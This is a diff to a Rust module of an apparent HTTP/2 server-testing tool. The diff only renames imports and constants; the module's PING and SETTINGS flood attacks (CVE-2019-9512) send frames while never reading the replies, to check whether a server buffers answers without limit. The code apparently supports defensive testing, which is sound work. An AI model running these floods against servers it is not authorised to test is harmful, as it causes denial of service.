@@ -1,10 +1,10 @@
 //! Frames that must be answered, from a client that never reads the answers: the answers pile up in a server that has no limit.
 
-use super::frame::{self, frame, setting};
 use super::link::Link;
 use crate::attack::context::Context;
 use crate::attack::definition::Attack;
 use crate::attack::evidence::{Evidence, Findings, Mark};
+use keel_wire::http2::{self, frame, setting};
 
 /// Answers unread at which a server counts as keeping them without a limit, in bytes: kernels keep at most some 10 MiB.
 const UNREAD: usize = 24 << 20;
@@ -19,7 +19,7 @@ pub(crate) const PING: Attack = Attack {
     source: "CVE-2019-9512",
     correct: "the connection is ended, or no more is read while answers cannot be sent, or they are not kept",
     memory: None,
-    launch: |context| Box::pin(flood(context, frame::PING, &[0; 8])),
+    launch: |context| Box::pin(flood(context, http2::PING, &[0; 8])),
 };
 
 pub(crate) const SETTINGS: Attack = Attack {
@@ -32,14 +32,14 @@ pub(crate) const SETTINGS: Attack = Attack {
 };
 
 async fn launch_settings(context: &Context<'_>) -> Findings {
-    flood(context, frame::SETTINGS, &setting(frame::INITIAL_WINDOW_SIZE, 65_535)).await
+    flood(context, http2::SETTINGS, &setting(http2::INITIAL_WINDOW_SIZE, 65_535)).await
 }
 
 async fn flood(context: &Context<'_>, kind: u8, payload: &[u8]) -> Findings {
     let mut link = Link::open(context, &[], true).await?;
     let one = frame(kind, 0, 0, payload);
     // An acknowledgement of settings carries no payload, that of a ping the same.
-    let answer = if kind == frame::SETTINGS { frame::HEAD } else { one.len() };
+    let answer = if kind == http2::SETTINGS { http2::HEAD } else { one.len() };
     let piece = one.repeat(PIECE / one.len());
     let each = PIECE / one.len();
     let (mut sent, mut going) = (0, true);
